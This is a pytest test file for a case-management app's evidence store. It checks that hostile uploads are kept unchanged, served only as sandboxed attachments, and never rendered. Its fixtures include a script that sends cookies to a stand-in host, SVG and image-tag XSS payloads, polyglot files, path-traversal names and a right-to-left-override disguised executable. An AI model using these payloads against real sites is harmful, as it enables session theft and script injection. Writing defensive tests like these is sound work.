"""Hostile files sent to a contact: kept as they came, opened by nothing of ours, shown as words."""

import io

import pytest
from PIL import Image
from sqlalchemy import select

from advocacy.db import writing
from advocacy.evidence_store.derived import make_previews
from advocacy.evidence_store.models import Exhibit, PreviewState
from advocacy.evidence_store.scanning.states import ScanState
from tests.contacts.test_files import contact, offered
from tests.evidence_store.sending import send_files

__all__ = ["contact"]


def picture() -> bytes:
    data = io.BytesIO()
    Image.effect_noise((300, 300), 60).save(data, "JPEG")
    return data.getvalue()


PAGE = b"<!doctype html><script>fetch('https://elsewhere.example/' + document.cookie)</script>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
PROGRAM = b"MZ\x90\x00\x03" + bytes(200)
BOTH = b"GIF89a/*" + PAGE + b"*/=1;"


def sent(contact, name: str, data: bytes):
    """Send one file to a contact; return the page of contacts it leads to."""
    browser, path, found = contact
    answer = send_files(browser, offered(browser, path, found), (name, data))
    assert answer.status_code == 303, answer.text
    return browser.follow(answer).text


def fetched(contact, session):
    """Return the one file there is, and the answer to who downloads it."""
    browser, path, found = contact
    session.expire_all()
    exhibit = session.scalars(select(Exhibit)).one()
    return exhibit, browser.post(f"{path}/{found.id}/files/{exhibit.id}/download", {})


@pytest.mark.parametrize(
    "data",
    [PAGE, DRAWING, PROGRAM, BOTH, b"%PDF-1.7\n" + PAGE, b"PK\x03\x04" + PAGE, bytes(40)],
    ids=["page", "drawing", "program", "picture-and-page", "letter", "archive", "nothing"],
)
def test_what_is_no_photo_but_named_like_one_is_saved_and_never_opened(contact, session, data):
    page = sent(contact, "photo.jpg", data)
    assert "Download photo.jpg" in page
    exhibit, got = fetched(contact, session)
    assert exhibit.media != "image/jpeg"
    assert got.data == data
    assert got.mimetype == "application/octet-stream"
    assert got.headers["Content-Disposition"].startswith("attachment;")
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    assert got.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    name = got.headers["Content-Disposition"].split('"')[1]
    # A double press on it must start nothing.
    assert name.rpartition(".")[2] in {"bin", "gif", "pdf", "zip"}, name


def test_a_photo_cut_off_half_way_is_kept_and_has_no_preview(
    contact, session, engine, vault, blobs, clock
):
    half = picture()[: len(picture()) // 2]
    assert "Download photo.jpg" in sent(contact, "photo.jpg", half)
    make_previews(lambda: writing(engine, vault), vault, blobs, now=clock.now)
    exhibit, got = fetched(contact, session)
    assert exhibit.preview in (PreviewState.FAILED, PreviewState.NONE)
    assert got.data == half
    browser, _, found = contact
    page = browser.get(f"/staff/cases/{found.case_id}/files/{exhibit.id}")
    assert page.status_code == 200
    assert "<img" not in page.text


NAMES = [
    ("../../../etc/passwd", "passwd"),
    ("..\\\\..\\\\windows\\\\system.ini", "system.ini"),
    ("C:\\\\Users\\\\jo\\\\note.txt", "note.txt"),
    ("/", "file"),
    ("..", ".."),
    # What reads "notegpj.exe" backwards: without the sign that turns it, it says what it is.
    ("note\u202egpj.exe", "notegpj.exe"),
    ("\u2066note\u2069\u200f.txt", "note.txt"),
    ("no\x00te\x1b[31m.txt", "note[31m.txt"),
    ("<img src=x onerror=alert(1)>.jpg", "&lt;img src=x onerror=alert(1)&gt;.jpg"),
    ("{{ 7 * 7 }}.txt", "{{ 7 * 7 }}.txt"),
    ("Żółć سلام 🙂.txt", "Żółć سلام 🙂.txt"),
]


@pytest.mark.parametrize(("name", "shown"), NAMES, ids=range(len(NAMES)))
def test_a_name_stays_words_and_leads_nowhere(contact, session, blobs, name, shown):
    page = sent(contact, name, b"A note")
    assert f"Download {shown}<" in page
    exhibit, got = fetched(contact, session)
    assert exhibit.reference in got.headers["Content-Disposition"]
    assert all("note" not in key and ".." not in key for key in blobs.held)


def test_a_huge_name_is_cut_and_the_file_kept(contact, session):
    page = sent(contact, "a" * 4000 + ".txt", b"A note")
    assert "Download " + "a" * 255 + "<" in page
    assert fetched(contact, session)[1].data == b"A note"


def test_an_empty_file_is_told_in_words_and_leaves_nothing(contact, session, blobs):
    browser, path, found = contact
    address = offered(browser, path, found)
    answer = send_files(browser, address, ("letter.txt", b""))
    assert answer.status_code == 422
    assert "That file is empty. Choose it again" in answer.text
    assert session.scalars(select(Exhibit)).all() == []
    assert blobs.held == {}
    # One that is empty beside one that is not costs the other nothing.
    both = send_files(browser, address, ("empty.txt", b""), ("letter.txt", b"Words"))
    page = browser.follow(both).text
    assert "Download letter.txt" in page
    assert "empty.txt" not in page


def test_a_hundred_files_at_once_are_all_there(contact, session):
    browser, path, found = contact
    files = [(f"{number}.txt", f"Note {number}".encode()) for number in range(100)]
    answer = send_files(browser, offered(browser, path, found), *files)
    assert answer.status_code == 303
    assert browser.follow(answer).text.count("Download ") == 100


def test_a_file_that_looks_harmful_has_no_button_beside_its_contact(contact, session):
    sent(contact, "letter.exe", PROGRAM)
    exhibit = session.scalars(select(Exhibit)).one()
    exhibit.scan = ScanState.HARMFUL
    session.commit()
    browser, path, found = contact
    page = browser.get(f"{path}/").text
    assert "Download letter.exe" not in page
    assert f"/staff/cases/{found.case_id}/files/{exhibit.id}" in page
    assert "don’t open it" in page
    where = f"{path}/{found.id}/files/{exhibit.id}/download"
    assert browser.post(where, {}).status_code == 409
    assert browser.post(where, {"warned": "yes"}).data == PROGRAM
